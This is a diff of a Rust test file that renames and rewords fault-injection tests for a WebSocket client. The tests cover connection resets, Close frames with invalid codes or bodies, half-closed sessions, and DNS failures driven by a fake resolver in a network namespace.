                 true => Ok(()),
-                false => Err(format!("the relay has {} bytes that are not the first ones sent", taken.len())),
+                false => {
+                    Err(format!("the relay has {} bytes that are not the first ones sent", received.len()))
+                }
             }
         })
     };
     let cells = vec![
         up("reset", lost, MIB, |peer| peer.reset()),
-        up("cut", lost, MIB, |peer| peer.cut()),
+        up("closed without close_notify", lost, MIB, |peer| peer.close_tcp()),
         up("closed after everything arrived", lost, 4 * MIB, |peer| peer.finish()),
-        up("Close 1011 while more comes", &["1011"], MIB, |peer| peer.close(1011, b"listener failed")),
-        up("Close 1000 while more comes", &[], MIB, |peer| peer.close(1000, b"")).quiet(0),
-        up("Close 1011, and nothing more is read", &["1011"], MIB, |peer| {
+        up("Close 1011 during input", &["1011"], MIB, |peer| peer.close(1011, b"listener failed")),
+        up("Close 1000 during input", &[], MIB, |peer| peer.close(1000, b"")).quiet(0),
+        up("Close 1011, then no more reads", &["1011"], MIB, |peer| {
             peer.frame(CLOSE, &[&1011_u16.to_be_bytes()[..], b"full"].concat())?;
-            peer.stand_still()
+            peer.block()
         }),
     ];
     run_phase("session: up", &w, cells);
 }
 
 #[test]
-fn sessions_that_end_after_the_end_of_input() {
-    let w = world(&["web01"]);
+fn sessions_after_the_end_of_input() {
+    let w = lab(&["web01"]);
     let question = || Input::Closed(b"question".to_vec());
-    let asked = |peer: &mut Peer| -> std::io::Result<()> {
-        let mut got = Vec::new();
-        while got.len() < 8 {
-            got.extend(peer.read_frame()?.1);
+    let read_question = |peer: &mut Peer| -> std::io::Result<()> {
+        let mut received = Vec::new();
+        while received.len() < 8 {
+            received.extend(peer.read_frame()?.1);
         }
         Ok(())
     };
     let late = Arc::new(noise(MIB));
     let answer = Arc::clone(&late);
     let cells = vec![
-        session(&w, "the answer comes, then Close", &[], move |peer| {
-            asked(peer)?;
+        session(&w, "response, then Close", &[], move |peer| {
+            read_question(peer)?;
             peer.frame(BINARY, &answer)?;
             peer.close(1000, b"")
         })
@@ -776,27 +773,27 @@ fn sessions_that_end_after_the_end_of_input() {
         .delivers(&late)
         .input(question()),
         session(&w, "silence", &[], move |peer| {
-            asked(peer)?;
+            read_question(peer)?;
             peer.silence()
         })
         .quiet(0)
         .input(question()),
-        session(&w, "Close 1011 after an answer has begun", &["1011"], move |peer| {
-            asked(peer)?;
+        session(&w, "Close 1011 within a response", &["1011"], move |peer| {
+            read_question(peer)?;
             peer.frame(BINARY, b"half an ans")?;
             peer.close(1011, b"listener failed")
         })
         .delivers(b"half an ans")
         .input(question()),
-        session(&w, "cut after an answer has begun", &["lost", "closed"], move |peer| {
-            asked(peer)?;
+        session(&w, "closed without close_notify within a response", &["lost", "closed"], move |peer| {
+            read_question(peer)?;
             peer.frame(BINARY, b"half an ans")?;
-            peer.cut()
+            peer.close_tcp()
         })
         .delivers(b"half an ans")
         .input(question()),
-        session(&w, "pings for ever", &[], move |peer| {
-            asked(peer)?;
+        session(&w, "endless pings", &[], move |peer| {
+            read_question(peer)?;
             loop {
                 peer.frame(PING, b"x")?;
                 std::thread::park_timeout(Duration::from_millis(200));
@@ -809,11 +806,11 @@ fn sessions_that_end_after_the_end_of_input() {
     run_phase("session: half-close", &w, cells);
 }
 
-/// Codes that RFC 6455, section 7.4, lets nobody send, and bodies that are none: the peer's own words are told, and
-/// where there are none, that the protocol was broken.
+/// Includes codes that an endpoint must not send (RFC 6455, section 7.4), and malformed bodies. The message shows the
+/// peer's code and reason, or else a protocol error.
 #[test]
-fn sessions_that_a_close_frame_ends() {
-    let w = world(&["web01"]);
+fn close_frames() {
+    let w = lab(&["web01"]);
     let close = |fault, cause: &[&'static str], body: &'static [u8]| {
         let server = move |peer: &mut Peer| {
             peer.frame(BINARY, GREETING)?;
@@ -840,15 +837,15 @@ fn sessions_that_a_close_frame_ends() {
         close("code 5000", &["5000"], b"\x13\x88x"),
         close("code 65535", &["65535"], b"\xff\xffx"),
         close("body of one byte", &["1 byte", "one byte", "protocol", "Close"], &[3]),
-        close("reason that is no UTF-8", &["1011"], b"\x03\xf3\xff\xfe"),
+        close("reason that is not UTF-8", &["1011"], b"\x03\xf3\xff\xfe"),
     ];
     run_phase("session: Close", &w, cells);
 }
 
-/// Name resolution, in a network of its own with a resolver that goes wrong.
+/// Name resolution in a network namespace with a faulty resolver.
 #[test]
-fn names_that_cannot_be_resolved() {
-    let w = world(&["web01"]);
+fn faults_of_name_resolution() {
+    let w = lab(&["web01"]);
     let isolated = |fault, resolver: &str, cause: &[&'static str]| {
         let (port, script) = (53, w.home().join("resolver.py"));
         std::fs::write(&script, RESOLVER).unwrap();
@@ -870,7 +867,7 @@ fn names_that_cannot_be_resolved() {
         Cell::new(fault, unshare, cause)
     };
     if !namespaces_work(w.home()) {
-        eprintln!("skipped: this machine allows no namespaces of one's own");
+        eprintln!("skipped: this machine allows no namespaces");
         return;
     }
     let unknown = &["lookup", "resol", "name", "dns"];
@@ -880,7 +877,7 @@ fn names_that_cannot_be_resolved() {
         isolated("refused", "refused", unknown),
         isolated("garbage", "garbage", &["lookup", "resol", "name", "dns", "within"]).slow(25),
         isolated("silence", "silence", &["lookup", "resol", "name", "dns", "within"]).slow(25),
-        isolated("address where nothing listens", "loopback", &["refused"]),
+        isolated("address without a listener", "loopback", &["refused"]),
     ];
     run_phase("DNS", &w, cells);
 }
@@ -890,7 +887,7 @@ fn namespaces_work(directory: &Path) -> bool {
     unshare.args(["-rnm", "true"]).current_dir(directory).status().is_ok_and(|status| status.success())
 }
 
-/// A DNS server that answers everything in one way (RFC 1035, section 4).
+/// A DNS server with one kind of response (RFC 1035, section 4).
 const RESOLVER: &str = r#"
 import socket, struct, sys
 kind, port = sys.argv[1], int(sys.argv[2])
